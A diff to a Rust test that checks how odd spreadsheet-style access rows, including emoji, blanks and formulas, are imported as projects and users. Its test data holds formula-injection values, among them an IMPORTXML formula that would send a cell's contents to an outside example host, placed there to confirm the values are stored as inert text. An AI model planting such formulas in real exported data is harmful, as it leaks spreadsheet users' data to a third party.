@@ -25,7 +25,8 @@ fn long(end: &str) -> String {
 #[test]
 fn odd_rows_are_imported_whole_or_rejected_with_the_place() {
     let founding = |name: &str| AccessRow::founding(&user(name), &format!("Odd {name}"));
-    let comment = long("the end");
+    // The tests of the fixtures know by these words that a project is none of theirs.
+    let comment = long("the end of the tests");
     let mut rows = Vec::new();
     let mut add = |row: AccessRow| {
         rows.push(row);
@@ -51,7 +52,9 @@ fn odd_rows_are_imported_whole_or_rejected_with_the_place() {
     row.set(15, "Odd \u{1f98a} \u{5d9}");
     add(row);
     let mut row = founding("formula");
-    row.set(5, "=1+1").set(13, "=IMPORTXML(\"https://example.org/?\" & M2, \"//a\")").set(16, "+A1");
+    row.set(5, "=1+1")
+        .set(13, "=IMPORTXML(\"https://example.org/?\" & M2, \"//a\")")
+        .set(16, "+A1 of the tests");
     add(row);
     // What is missing at the end is blank: here from the existing users on, and below from the PIN on.
     let mut row = founding("short");
@@ -115,7 +118,7 @@ fn odd_rows_are_imported_whole_or_rejected_with_the_place() {
     for name in ["Odd blanks", "Odd \u{1f98a} \u{5d9}"] {
         assert_eq!(text(&project(name), "name"), name);
     }
-    assert_eq!(text(&project("Odd formula"), "description"), "+A1");
+    assert_eq!(text(&project("Odd formula"), "description"), "+A1 of the tests");
     let description = |name: &str| {
         let shown = cloud.openstack(&["user", "show", &user(name)]).unwrap();
         text(&shown, "description").to_owned()
